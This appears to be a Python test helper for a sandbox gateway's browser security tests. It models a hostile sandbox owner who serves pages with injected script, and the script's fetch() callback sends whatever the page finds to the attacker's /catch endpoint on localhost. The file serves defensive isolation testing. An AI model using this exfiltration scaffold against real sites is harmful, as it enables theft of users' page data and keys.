"""Somebody hostile who has a sandbox, and what a person does in a browser."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

from tests.gateway.bed import PORT, Bed, Box
from tests.gateway.browser import Browser, Page
from tests.support.waiting import PATIENCE_S

ATTACKER = Path(__file__).with_name("attacker.py").read_text()


class Attacker:
    """Somebody who has a sandbox, and code in it."""

    def __init__(self, box: Box, server_port: int) -> None:
        self.box = box
        self.host = f"http://{PORT}-{box.key}.localhost:{server_port}"
        self.api = f"http://localhost:{server_port}"
        self.prefix = f"{self.api}/p/{box.key}/{PORT}"

    def answer(self, body: str, *headers: tuple[str, str], path: str = "/page", status: int = 200) -> str:
        """The target of a request that is answered so."""
        answer = {"status": status, "headers": headers, "body": body}
        return f"{path}?answer={quote(json.dumps(answer), safe='')}"

    def code(self, code: str) -> str:
        """With ``caught``, by which it tells of what it finds."""
        catch = f"(what) => fetch('{self.host}/catch?what=' + encodeURIComponent(what), {{mode: 'no-cors'}})"
        return f"{{ const caught = {catch}; {code} }}"

    def page(self, code: str, *headers: tuple[str, str], path: str = "/page", body: str = "") -> str:
        """The target of a page that runs this."""
        return self.answer(
            f"<!doctype html><title>page</title>{body}<script>{self.code(code)}</script>", *headers, path=path
        )

    def caught(self) -> list[str]:
        with self.box.visitor() as visitor:
            return list(visitor.get("/caught").raise_for_status().json())

    def requests(self, path: str) -> list[dict[str, Any]]:
        with self.box.visitor() as visitor:
            return [one for one in visitor.get("/requests").json() if one["path"] == path]


def box_of_attacker(bed: Bed, **fields: Any) -> Box:
    box = bed.create(**fields)
    with bed.api() as api:
        body = {"sandbox_id": box.sandbox_id, "path": "/workspace/attacker.py", "content": ATTACKER}
        api.post("/sandboxes/write-file", json=body).raise_for_status()
    box.run(f"python3 /workspace/attacker.py {PORT}", background=True)
    box.run(f"until (: < /dev/tcp/127.0.0.1/{PORT}) 2>/dev/null; do sleep 0.05; done", timeout=60)
    return box


async def opened(browser: Browser, url: str) -> Page:
    page = await browser.tab()
    await page.open(url)
    await page.until("document.readyState === 'complete' && location.href !== 'about:blank'")
    return page


async def caught(browser: Browser, attacker: Attacker) -> list[str]:
    """What pages told the attacker, once a later page's word has come."""
    await opened(browser, attacker.host + attacker.page("caught('the end')"))
    async with asyncio.timeout(PATIENCE_S):
        while "the end" not in (told := await asyncio.to_thread(attacker.caught)):
            await asyncio.sleep(0.05)
    return [what for what in told if what != "the end"]


async def click(page: Page, expression: str) -> Any:
    """As if a person had clicked, so that windows may be opened."""
    answer = await page.call(
        "Runtime.evaluate", expression=expression, userGesture=True, awaitPromise=True, returnByValue=True
    )
    assert "exceptionDetails" not in answer, answer
    return answer["result"].get("value")


async def give_swagger_the_key(page: Page, key: str) -> None:
    await page.until("document.querySelector('.btn.authorize') !== null")
    await page.click("document.querySelector('.btn.authorize')")
    await page.until("document.querySelector('.auth-container input') !== null")
    await page.click("document.querySelector('.auth-container input')")
    await page.write(key)
    await page.click("document.querySelector('.auth-btn-wrapper .authorize')")
    await page.until("document.querySelector('.auth-btn-wrapper')?.innerText.includes('Logout')")
